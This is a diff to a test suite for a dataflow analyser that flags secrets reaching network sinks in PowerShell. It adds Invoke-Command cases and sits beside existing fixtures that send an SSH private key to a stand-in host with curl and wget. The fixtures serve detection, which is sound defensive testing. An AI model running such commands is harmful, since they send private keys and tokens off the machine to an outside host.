@@ -524,6 +524,9 @@ describe('dataflow analysis', () => {
         '$k | curl.exe --data-binary @- https://c.example/u': 'network',
         '& curl --data-urlencode "k=$k" --url=https://c.example/u': 'network',
         'wget.exe --post-data="k=$k" https://c.example/u': 'network',
+        // Remoting serialises the arguments and the `$using:` variables to the other computer.
+        'Invoke-Command -ComputerName c.example -ScriptBlock { param($x) Set-Content k.txt $x } -ArgumentList $k': 'network',
+        'Invoke-Command -Session $s -ScriptBlock { Set-Content k.txt $using:k }': 'network',
       };
       for (const [sink, kind] of Object.entries(sinks)) {
         assert.deepEqual(summary(await flowsOf('powershell', `${key}${sink}\n`)), [`secret: the SSH private key -> ${kind}`], sink);
@@ -573,6 +576,8 @@ describe('dataflow analysis', () => {
         'curl.exe -s -H "Authorization: Bearer $env:GITHUB_TOKEN" https://api.github.com/user\n',
         // Windows PowerShell's `curl` alias, written with the cmdlet's parameters.
         '$s = $env:ACME_SECRET_KEY\ncurl -Uri https://c.example/u -Method Post -Body "hello" -Headers @{ Accept = "text/plain" }\n',
+        // A block run here, and a remote one given nothing of the secret.
+        '$s = $env:ACME_SECRET_KEY\nInvoke-Command -ScriptBlock { param($x) Write-Host $x } -ArgumentList $s\nInvoke-Command -ComputerName srv01 -ScriptBlock { Get-Service } -ArgumentList "spooler"\n',
       ];
       for (const code of own) assert.deepEqual(summary(await flowsOf('powershell', code)), [], code);
     });
